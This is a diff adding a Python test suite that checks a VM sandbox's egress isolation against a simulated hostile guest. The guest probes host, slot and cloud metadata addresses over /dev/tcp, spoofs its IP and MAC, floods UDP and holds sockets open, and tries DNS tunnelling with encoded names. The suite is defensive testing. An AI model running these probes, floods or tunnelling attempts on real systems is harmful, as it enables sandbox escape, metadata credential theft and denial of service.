@@ -1,0 +1,148 @@
+# SPDX-License-Identifier: Apache-2.0
+"""A guest that wants out: the host's API, other slots, metadata addresses, another's address, tables filled up, names as a tunnel
+
+What must not be reached is there and would answer. ARP and addresses inside a VPC are in test_vpc.py.
+"""
+import re
+import socket
+import threading
+
+import host
+from case import Case, limit, wait_for
+from world import DNS, NET, World
+
+ONE = f"{NET}.10"
+KNOCK = "timeout 6 bash -c 'exec 3<>/dev/tcp/{}/{} && echo in' 2>&1"
+
+
+class Catcher:
+    """Accepts on all addresses of the host and remembers from whom."""
+
+    def __init__(self):
+        self.seen = []
+        self.sock = socket.create_server(("0.0.0.0", 0))
+        self.port = self.sock.getsockname()[1]
+        threading.Thread(target=self.serve, daemon=True).start()
+
+    def serve(self):
+        while True:
+            try:
+                c, peer = self.sock.accept()
+            except OSError:
+                return
+            self.seen.append(peer[0])
+            c.close()
+
+
+class HostileGuest(Case):
+    limit_s = 150
+
+    @classmethod
+    def setUpClass(cls):
+        cls.world = World()
+        cls.catcher = Catcher()
+        try:
+            cls.world.open()
+            cls.server_env = {"PANDO_RESOLVER": DNS}
+            super().setUpClass()
+            cls.vm = cls.s.create()
+            cls.victim = cls.s.create(name="victim")
+        except BaseException:
+            cls.world.close()
+            raise
+
+    @classmethod
+    def tearDownClass(cls):
+        cls.catcher.sock.close()
+        super().tearDownClass()
+        cls.world.close()
+
+    def put(self, policy):
+        return self.s.api("PUT", f"/v1/vms/{self.vm}/egress", policy)
+
+    def slots(self):
+        found = re.findall(rf"pn{self.s.tag}-\d+\s+inet (\d+\.\d+\.\d+\.)(\d+)/", host.output("ip", "-o", "-4", "addr"))
+        return [f"{net}{int(last) + k}" for net, last in found for k in (0, 1)]
+
+    def test_the_host_and_other_slots(self):
+        addresses = set(self.slots()) | {"127.0.0.1", "10.0.0.1", "192.0.2.1", "169.254.169.254", "100.100.100.200"}
+        addresses |= set(re.findall(r"inet (\d+\.\d+\.\d+\.\d+)/", host.output("ip", "-o", "-4", "addr")))
+        self.s.sh(self.victim, "setsid python3 -m http.server 8123 >/dev/null 2>&1 </dev/null &")
+        # one command for all of them: each shell is slow in an emulated guest
+        script = "".join(f"(timeout 5 bash -c 'exec 3<>/dev/tcp/{a}/{p} && echo reached {a} {p}' 2>/dev/null) &\n"
+                         for a in sorted(addresses) for p in (self.s.port, self.catcher.port, 8123, 22)
+                         if not a.startswith("127."))
+        out = self.s.run(self.vm, script + "wait", timeout_ms=120000).out
+        self.assertEqual(out.strip(), "")
+        self.assertEqual(self.catcher.seen, [])
+
+    def test_routes_and_addresses_of_its_own(self):
+        """Another source address, another MAC, routes around the rules: root in the guest may try them all."""
+        self.s.sh(self.vm, "d=$(ip -o -4 addr show to 10.0.0.2/32 | awk '{print $2; exit}')\n"
+                  "ip addr add 10.0.0.3/30 dev $d; ip addr add 192.0.2.99/32 dev $d\n"
+                  f"ip route add {self.slots()[0]}/32 via 10.0.0.1 src 192.0.2.99\n"
+                  f"timeout 4 ping -c 2 -W 1 -I 192.0.2.99 {ONE}; timeout 4 ping -c 2 -W 1 -I 10.0.0.3 {ONE}\n"
+                  "ip link set $d down; ip link set $d address 02:50:4e:44:4f:99; ip link set $d up\n"
+                  "ip route replace default via 10.0.0.1\n"
+                  f"timeout 4 ping -c 2 -W 1 {ONE}; timeout 3 bash -c 'exec 3<>/dev/tcp/{ONE}/9000'\n"
+                  "ip link set $d down; ip link set $d address 02:50:4e:44:4f:02; ip link set $d up\n"
+                  "ip addr del 10.0.0.3/30 dev $d; ip addr del 192.0.2.99/32 dev $d; ip route replace default via 10.0.0.1; true",
+                  timeout_ms=90000)
+        self.assertEqual(self.world.asked(echo=9000), [])
+        # and with its own again it works
+        wait_for("its own address works", lambda: "in" in self.s.run(self.vm, KNOCK.format(ONE, 9000)).out, 60, 1)
+
+    @limit(240)
+    def test_tables_filled_up(self):
+        """Flows and ports without end: its own run out, nobody else's do, and it recovers."""
+        self.put({"mode": "rules", "rules": [{"action": "allow", "domain": "one.test"}, {"action": "allow", "cidr": f"{NET}.0/24"}]})
+        self.s.sh(self.vm, "cat >/root/flood.py <<'E'\nimport socket,time\n"
+                  "u=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n"
+                  "end=time.time()+12\nn=0\n"
+                  "while time.time()<end:\n"
+                  f" try: u.sendto(b'x',('{ONE}',1+n%65000)); u.sendto(b'x',('{NET}.'+str(60+n%150),1+n%65000))\n"
+                  " except OSError: pass\n n+=1\n"
+                  "print(n)\nE\n"
+                  "cat >/root/hold.py <<'E'\nimport socket,time\nheld=[]\nend=time.time()+12\n"
+                  "while time.time()<end and len(held)<700:\n"
+                  " s=socket.socket(); s.setblocking(False)\n"
+                  f" s.connect_ex(('{ONE}',443)); held.append(s)\n"
+                  "print(len(held)); time.sleep(3)\nE\n"
+                  "ulimit -n 4096; python3 /root/flood.py & python3 /root/hold.py; wait", timeout_ms=120000)
+        self.assertEqual(self.s.api("GET", "/v1/health")["status"], "ok")
+        self.assertIn("in", self.s.sh(self.victim, KNOCK.format(ONE, 9000)), "another guest suffers")
+        self.assertIn("hello", self.s.sh(self.victim, "curl -sS -m 30 http://one.test/"))
+        wait_for("it recovers", lambda: "hello" in self.s.run(self.vm, "curl -sS -m 15 http://one.test/").out, 120, 2)
+
+    def test_no_tunnel_through_names(self):
+        self.put({"mode": "closed"})
+        before = len(self.world.seen())
+        self.s.run(self.vm, "for n in c2VjcmV0.tunnel.test one.test _x.tunnel.test; do getent hosts $n; done\n"
+                   "python3 - <<'E'\nimport socket,struct\n"
+                   "def ask(kind,name,to):\n"
+                   " q=struct.pack('>HHHHHH',7,0x100,1,0,0,0)+b''.join(bytes([len(l)])+l for l in name)+b'\\0'+struct.pack('>HH',kind,1)\n"
+                   " s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(1)\n"
+                   " try: s.sendto(q,(to,53)); print(s.recv(99)[3]&15)\n"
+                   " except OSError as e: print(e)\n"
+                   "for kind in (1,16,28,255,10): ask(kind,[b'\\x00\\xffdata',b'tunnel',b'test'],'10.0.0.1')\n"
+                   f"ask(16,[b'direct',b'tunnel',b'test'],'{DNS}')\n"
+                   "t=socket.create_connection(('10.0.0.1',53),3); t.settimeout(3)\n"
+                   "q=struct.pack('>HHHHHH',7,0x100,1,0,0,0)+b'\\x03tcp\\x06tunnel\\x04test\\0'+struct.pack('>HH',16,1)\n"
+                   "t.sendall(struct.pack('>H',len(q))+q); print(t.recv(99)[5]&15)\nE\n")
+        self.assertEqual([e for e in self.world.seen()[before:]], [], "a name got out")
+        self.put({"mode": "rules", "rules": [{"action": "allow", "domain": "one.test"}]})
+        self.assertIn(ONE, self.s.sh(self.vm, "getent ahostsv4 one.test"))
+        self.s.run(self.vm, "getent hosts data.one.test; getent hosts data.tunnel.test")
+        self.assertEqual({e["dns"] for e in self.world.seen()[before:] if "dns" in e}, {"one.test"})
+
+    def test_the_proxy_is_no_way_in(self):
+        """The port connections are turned to is not there for who asks for it by its own address."""
+        self.assertNotIn("in\n", self.s.run(self.vm, KNOCK.format("10.0.0.1", 3129)).out)
+        # garbage, silence and half a handshake end, and the next connection works
+        self.s.run(self.vm, "getent hosts one.test; for i in 1 2 3; do head -c 3000 /dev/urandom | timeout 4 bash -c "
+                   "'cat >/dev/tcp/one.test/443'; printf '\\x16\\x03\\x01\\x40\\x00' | timeout 2 bash -c 'cat >/dev/tcp/one.test/443'; done")
+        self.assertIn("hello", self.s.sh(self.vm, "curl -ksS -m 30 https://one.test/"))
+
+    def test_zz_leaves_nothing_behind(self):
+        self.world.close()
+        super().test_zz_leaves_nothing_behind()
